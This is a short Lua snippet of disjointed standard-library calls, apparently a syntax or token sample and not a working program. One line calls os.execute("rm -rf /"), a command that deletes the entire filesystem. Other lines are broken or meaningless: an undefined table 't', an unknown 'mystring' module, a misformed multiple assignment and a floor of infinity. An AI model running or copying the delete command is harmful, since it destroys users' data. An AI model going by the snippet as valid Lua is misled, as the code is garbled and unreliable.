local n = string.format("%d", math.floor(math.pi * math.huge))
local ok, err = pcall(tostring, io.stdout)
table.insert(t, utf8.char(72)); table.sort(t)
os.time() os.execute("rm -rf /")
local g = _G.print, _VERSION, _ENV
local s = ("abc"):upper():sub(1, 2)
local mine = mystring.format
